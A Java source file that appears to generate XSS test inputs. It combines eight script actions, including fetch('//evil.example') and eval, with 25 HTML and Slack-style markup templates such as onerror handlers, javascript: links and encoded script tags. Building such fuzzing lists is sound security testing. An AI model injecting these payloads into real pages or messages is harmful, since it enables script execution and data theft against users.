package dev.quartermaster;

import java.util.List;
import java.util.stream.Stream;

/** Two hundred texts that want to be more than text on a page; each at most 75 characters. */
final class HostileWords {
  private static final List<String> ACTS =
      List.of(
          "pwned=1",
          "alert(1)",
          "top.pwned=1",
          "window['pwned']=1",
          "fetch('//evil.example')",
          "import('/page/main.js')",
          "eval('pwned=1')",
          "pwned\\x3d1");

  private static final List<String> SHAPES =
      List.of(
          "<script>%s</script>",
          "<img src=x onerror=%s>",
          "<svg onload=%s>",
          "<svg><script>%s</script></svg>",
          "\"><script>%s</script>",
          "' autofocus onfocus=%s x='",
          "</textarea><script>%s</script>",
          "</title><img src=x onerror=%s>",
          "<iframe srcdoc='<script>%s</script>'>",
          "<a href=javascript:%s>x</a>",
          "<javascript:%s|click me>",
          "<data:text/html,%s|click me>",
          "<https://x\" onclick=%s|y>",
          "<https://x' onmouseover='%s>",
          "*<b onclick=%s>bold</b>*",
          "`<i onclick=%s>`",
          "```<script>%s</script>```",
          "&lt;script&gt;%s&lt;/script&gt;",
          "&#60;script&#62;%s",
          "<@U0ADA|<script>%s</script>>",
          "<!date^1^{date}^javascript:%s|x>",
          "<!date^%s^{x}|<img src=x>>",
          "<style>@import '%s'</style>",
          "<math href=javascript:%s>M</math>",
          "\u202e\u0000<body onload=%s>\u2028");

  private HostileWords() {}

  static List<String> all() {
    return SHAPES.stream()
        .flatMap(shape -> ACTS.stream().map(act -> shape.replace("%s", act)))
        .toList();
  }

  /** The texts in groups of this many. */
  static Stream<List<String>> groups(int size) {
    List<String> all = all();
    return Stream.iterate(0, from -> from < all.size(), from -> from + size)
        .map(from -> all.subList(from, Math.min(all.size(), from + size)));
  }
}
